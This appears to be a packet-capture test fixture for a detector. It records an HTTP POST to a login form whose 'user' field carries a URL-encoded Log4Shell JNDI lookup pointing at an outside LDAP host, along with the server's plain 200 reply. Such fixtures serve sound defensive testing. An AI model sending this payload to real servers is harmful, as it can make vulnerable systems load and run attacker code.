# Log4Shell, JNDI lookup in the body.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /login HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/x-www-form-urlencoded\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 57\r\n
\r\n
user=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D&pass=x

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
